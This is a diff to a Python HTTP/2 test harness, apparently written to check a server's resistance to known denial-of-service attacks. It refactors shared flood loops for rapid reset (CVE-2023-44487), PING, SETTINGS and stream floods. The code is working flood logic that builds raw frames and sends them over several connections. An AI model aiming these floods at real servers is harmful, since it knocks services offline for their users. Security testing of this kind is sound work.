@@ -143,6 +143,21 @@ class RawH2:
             return f"GOAWAY {_GOAWAY_CODES.get(self.goaway, self.goaway)}"
         return "closed" if self.closed else "no answer"
 
+    def flood(self, make: Callable[[], bytes], seconds: float = 10.0) -> str:
+        """Write ``make()`` as fast as the socket takes it until the server sends GOAWAY or
+        closes (``seconds`` at most), then how the connection ended; closes it."""
+        end = time.monotonic() + seconds
+        try:
+            while time.monotonic() < end and self.goaway is None and not self.closed:
+                if not self.send(make()):
+                    break
+                self.read()
+            while self.goaway is None and not self.closed and time.monotonic() < end + 5:
+                self.read(0.2)
+            return self.ended()
+        finally:
+            self.close()
+
     def close(self) -> None:
         self.sock.close()
 
@@ -152,26 +167,19 @@ def _code(value: int) -> tuple[int, str]:
     return found
 
 
-def _flood(t: Target, make: bytes, seconds: float = 10.0, conns: int = 1, per_write: int = 500) -> str:
-    """Write ``make`` (a frame, or frames) as fast as the socket takes it, on ``conns``
-    connections, until the server sends GOAWAY or closes (or ``seconds`` pass)."""
+def _flood(
+    t: Target, make: Callable[[RawH2], Callable[[], bytes]], seconds: float = 10.0, conns: int = 1
+) -> str:
+    """``conns`` connections, each flooding what ``make(connection)`` writes (see
+    ``RawH2.flood``); how they ended, with their counts."""
     ends: Counter[str] = Counter()
     lock = threading.Lock()
 
     def one() -> None:
         c = RawH2(t, ack=True)
-        end = time.monotonic() + seconds
-        try:
-            while time.monotonic() < end and c.goaway is None and not c.closed:
-                if not c.send(make * per_write):
-                    break
-                c.read()
-            while c.goaway is None and not c.closed and time.monotonic() < end + 5:
-                c.read(0.2)
-        finally:
-            c.close()
+        ended = c.flood(make(c), seconds)
         with lock:
-            ends[c.ended()] += 1
+            ends[ended] += 1
 
     threads = [threading.Thread(target=one) for _ in range(conns)]
     for th in threads:
@@ -184,38 +192,25 @@ def _flood(t: Target, make: bytes, seconds: float = 10.0, conns: int = 1, per_wr
 def rapid_reset(t: Target) -> str:
     """CVE-2023-44487: 4 connections open ModelInfer streams (whole requests) and reset them
     at once, for up to 10 s: each connection gets GOAWAY ENHANCE_YOUR_CALM."""
-    ends: Counter[str] = Counter()
     body = _fraud_request()
 
-    def one() -> None:
-        c = RawH2(t, ack=True)
+    def make(c: RawH2) -> Callable[[], bytes]:
         head = c.head()
-        end = time.monotonic() + 10
-        try:
-            while time.monotonic() < end and c.goaway is None and not c.closed:
-                batch = []
-                for _ in range(100):
-                    sid = c.stream()
-                    batch.append(
-                        frame(HEADERS, END_HEADERS, sid, head)
-                        + frame(DATA, END_STREAM, sid, body)
-                        + frame(RST_STREAM, 0, sid, struct.pack(">L", 8))
-                    )
-                if not c.send(b"".join(batch)):
-                    break
-                c.read()
-            while c.goaway is None and not c.closed and time.monotonic() < end + 5:
-                c.read(0.2)
-        finally:
-            c.close()
-        ends[c.ended()] += 1
 
-    threads = [threading.Thread(target=one) for _ in range(4)]
-    for th in threads:
-        th.start()
-    for th in threads:
-        th.join()
-    return " / ".join(f"{k} x{v}" for k, v in sorted(ends.items()))
+        def batch() -> bytes:
+            out = []
+            for _ in range(100):
+                sid = c.stream()
+                out.append(
+                    frame(HEADERS, END_HEADERS, sid, head)
+                    + frame(DATA, END_STREAM, sid, body)
+                    + frame(RST_STREAM, 0, sid, struct.pack(">L", 8))
+                )
+            return b"".join(out)
+
+        return batch
+
+    return _flood(t, make, conns=4)
 
 
 def zero_window(t: Target) -> str:
@@ -245,34 +240,27 @@ def zero_window(t: Target) -> str:
     return "streams past the limit refused" if refused else "nothing refused"
 
 
+def _repeat(data: bytes) -> Callable[[RawH2], Callable[[], bytes]]:
+    return lambda c: lambda: data
+
+
 def ping_flood(t: Target) -> str:
     """PING frames, nothing else, as fast as they go (CVE-2019-9512)."""
-    return _flood(t, frame(PING, 0, 0, b"12345678"))
+    return _flood(t, _repeat(frame(PING, 0, 0, b"12345678") * 500))
 
 
 def settings_flood(t: Target) -> str:
     """Empty SETTINGS frames, each of which asks for an acknowledgement (CVE-2019-9515)."""
-    return _flood(t, frame(SETTINGS, 0, 0))
+    return _flood(t, _repeat(frame(SETTINGS, 0, 0) * 500))
 
 
 def _stream_flood(t: Target, end_headers: bool, chunk: Callable[[int], bytes]) -> str:
-    """Open a stream (its header block ended or not), then write ``chunk(stream)`` as fast
-    as the socket takes it until the server sends GOAWAY or closes (10 s at most)."""
+    """Open a stream (its header block ended or not), then flood ``chunk(stream)``."""
     c = RawH2(t, ack=True)
     sid = c.stream()
     c.send(frame(HEADERS, END_HEADERS if end_headers else 0, sid, c.head()))
     data = chunk(sid)
-    end = time.monotonic() + 10
-    try:
-        while time.monotonic() < end and c.goaway is None and not c.closed:
-            if not c.send(data):
-                break
-            c.read()
-        while c.goaway is None and not c.closed and time.monotonic() < end + 5:
-            c.read(0.2)
-        return c.ended()
-    finally:
-        c.close()
+    return c.flood(lambda: data)
 
 
 def empty_frames_flood(t: Target) -> str:
